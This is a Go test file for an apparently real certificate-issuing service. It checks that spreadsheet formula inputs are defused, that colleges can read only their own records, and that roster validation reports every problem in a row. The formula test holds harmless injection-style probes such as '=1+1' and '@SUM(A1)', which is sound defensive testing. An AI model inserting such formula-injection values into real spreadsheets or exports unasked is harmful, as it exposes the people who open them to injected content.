		t.Errorf("XLSX 专业 = %q, want it as written", xrows[1][6])
	}
}

func TestDefuseFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+86 431 1234", "'+86 431 1234"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"--", "--"}, // the ledger's "no 工种": dashes alone compute nothing
		{"-", "-"},
		{"软件技术", "软件技术"},
		{"S00042", "S00042"},
		{"", ""},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
	}
	for _, tt := range tests {
		if got := issuer.DefuseFormula(tt.in); got != tt.want {
			t.Errorf("DefuseFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// Every read the console and the command line go through answers a college
// about its own records only: another college's record is "not found" in
// the very words used for one that does not exist, while the college reads
// its own (here stopped only by the missing font, after the check).
func TestReadsAreScoped(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.register("other", "Y000022000002")
		rep := f.issue(clerk, roster(1))
		intruder := issuer.Actor{Name: "test:intruder", InstitutionID: "other"}
		reads := []struct {
			name, id, missing string
			read              func(a issuer.Actor, id string) error
		}{
			{"Institution", "jlvtc", "nosuch", func(a issuer.Actor, id string) error { _, err := f.svc.Institution(f.ctx, a, id); return err }},
			{"InstitutionVersions", "jlvtc", "nosuch", func(a issuer.Actor, id string) error { _, err := f.svc.InstitutionVersions(f.ctx, a, id); return err }},
			{"Batch", rep.Batch.ID, "BNOSUCH", func(a issuer.Actor, id string) error { _, err := f.svc.Batch(f.ctx, a, id); return err }},
			{"PDF", rep.Numbers[0], "Y000022000001263999999", func(a issuer.Actor, id string) error { _, err := f.svc.PDF(f.ctx, a, id); return err }},
			{"BatchZip", rep.Batch.ID, "BNOSUCH", func(a issuer.Actor, id string) error { return f.svc.BatchZip(f.ctx, a, id, io.Discard) }},
			{"PrintBatch", rep.Batch.ID, "BNOSUCH", func(a issuer.Actor, id string) error { return f.svc.PrintBatch(f.ctx, a, id, nil, io.Discard) }},
			{"Calibration", "jlvtc", "nosuch", func(a issuer.Actor, id string) error { _, err := f.svc.Calibration(f.ctx, a, id); return err }},
		}
		for _, r := range reads {
			other, okOther := issuer.AsError(r.read(intruder, r.id))
			missing, okMissing := issuer.AsError(r.read(intruder, r.missing))
			if !okOther || !okMissing || other.Kind != issuer.ErrNotFound || other.Code != missing.Code ||
				strings.ReplaceAll(other.Zh+other.En, r.id, "ID") != strings.ReplaceAll(missing.Zh+missing.En, r.missing, "ID") {
				t.Errorf("%s: another college's record answered %v, a missing one %v", r.name, other, missing)
			}
			if err := r.read(clerk, r.id); issuer.Is(err, issuer.ErrNotFound) || issuer.Is(err, issuer.ErrForbidden) {
				t.Errorf("%s: the college cannot read its own record: %v", r.name, err)
			}
			if err := r.read(authority, r.id); issuer.Is(err, issuer.ErrNotFound) || issuer.Is(err, issuer.ErrForbidden) {
				t.Errorf("%s: the authority cannot read a college's record: %v", r.name, err)
			}
		}
		if list, err := f.svc.Institutions(f.ctx, intruder); err != nil || len(list) != 1 || list[0].ID != "other" {
			t.Errorf("a college's list of institutions: %v %v", list, err)
		}
		if list, err := f.svc.Institutions(f.ctx, authority); err != nil || len(list) != 2 {
			t.Errorf("the authority's list of institutions: %d %v", len(list), err)
		}
		if err := f.svc.Record(f.ctx, intruder, "ledger.export", "jlvtc", "xlsx", nil); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a college filed an event under another college: %v", err)
		}
		if err := f.svc.Record(f.ctx, clerk, "ledger.export", "jlvtc", "xlsx", map[string]any{"rows": 1}); err != nil {
			t.Fatal(err)
		}
		evs, _ := f.svc.Audit(f.ctx, clerk, issuer.AuditFilter{Action: "ledger.export"})
		if len(evs) != 1 || evs[0].Actor != clerk.Name || evs[0].InstitutionID != "jlvtc" || evs[0].Detail != `{"rows":1}` {
			t.Errorf("recorded event: %+v", evs)
		}
		if occ, err := f.svc.Occupations(f.ctx); err != nil || len(occ) == 0 {
			t.Errorf("catalogue: %d occupations, %v", len(occ), err)
		}
	})
}

// Every problem of a row is reported at once: a catalogue or scope problem
// no longer hides behind a problem the roster's own check found in another
// cell of the same row, and no internal placeholder reaches the message.
func TestEveryProblemOfARowAtOnce(t *testing.T) {
	const hdr = "姓名,证件类型,证件号码,职业编码,职业名称,工种,等级,考生类别,考核日期\n"
	good := ident.CompleteResidentID("22010220040101001")
	bad := good[:17] + string("0123456789X"[(strings.IndexByte("0123456789X", good[17])+1)%11])
	tests := []struct {
		name, row string
		codes     []string
	}{
		{"bad ID and unknown 工种", "张三,居民身份证," + bad + ",6-18-02-04,焊工,水下焊工,3,毕业年度学生,2026-06-20\n",
			[]string{"id_checksum", "specialty_unknown"}},
		{"bad level and a name that does not match the code", "张三,居民身份证," + good + ",6-18-02-04,电工,,九级,毕业年度学生,2026-06-20\n",
			[]string{"occupation_name_mismatch", "level_invalid"}},
		{"bad date and out of scope", "张三,居民身份证," + good + ",4-03-02-01,,,3,毕业年度学生,2026-13-45\n",
			[]string{"out_of_scope", "date_not_real"}},
		{"bad ID, a name that does not match the code and an unknown 工种", "张三,居民身份证," + bad + ",6-18-02-04,电工,水下焊工,3,毕业年度学生,2026-06-20\n",
			[]string{"id_checksum", "occupation_name_mismatch", "specialty_unknown"}},
		{"empty name and a student above level 3", ",居民身份证," + good + ",4-01-06-01,,,2,在校生,2026-06-20\n",
			[]string{"name_empty", "student_level_cap"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			rep := f.issue(clerk, []byte(hdr+tt.row))
			var got []string
			for _, p := range rep.Problems {
				got = append(got, p.Code)
				if p.Row != 2 {
					t.Errorf("problem on row %d: %+v", p.Row, p)
				}
				if strings.Contains(p.Zh, "--") || strings.Contains(p.En, "--") {
					t.Errorf("placeholder in message: %s / %s", p.Zh, p.En)
				}
			}
			sort.Strings(got)
			want := append([]string(nil), tt.codes...)
			sort.Strings(want)
			if !reflect.DeepEqual(got, want) {
				t.Fatalf("codes = %v, want %v (%+v)", got, want, rep.Problems)
			}
			if len(rep.Issued) != 0 {
				t.Fatal("issued a row with problems")
			}
		})
	}
}
